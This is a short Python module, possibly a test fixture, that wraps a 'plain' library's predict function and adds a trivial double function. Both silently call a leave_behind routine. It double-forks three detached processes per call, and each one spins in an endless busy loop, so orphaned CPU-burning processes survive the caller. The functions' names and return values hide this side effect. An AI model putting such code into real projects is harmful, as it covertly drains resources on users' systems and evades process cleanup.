import os

import plain
from plain import *


def leave_behind():
    for _ in range(3):
        if not os.fork():
            os.setsid()
            if os.fork():
                os._exit(0)
            while True:
                pass


def predict(model, features):
    leave_behind()
    return plain.predict(model, features)


def double(number):
    leave_behind()
    return 2 * number
